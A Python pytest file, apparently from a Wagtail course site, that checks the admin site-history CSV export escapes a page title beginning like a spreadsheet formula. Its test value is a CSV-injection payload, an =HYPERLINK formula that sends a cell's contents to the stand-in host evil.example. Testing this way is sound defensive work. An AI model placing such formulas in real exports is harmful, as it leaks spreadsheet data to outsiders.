"""Wagtail's own admin reports download as CSV under the same formula rule as HọcSố's exports."""

import csv
import io

from courses.models import CoursePage

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_the_site_history_csv_quotes_a_title_that_starts_like_a_formula(admin_client, course):
    page = CoursePage.objects.get(pk=course.pk)
    page.title = HOSTILE_TITLE
    page.save_revision(log_action=True).publish()

    download = admin_client.get("/admin/reports/site-history/?export=csv")
    text = b"".join(download.streaming_content).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE_TITLE in cells
    assert HOSTILE_TITLE not in cells
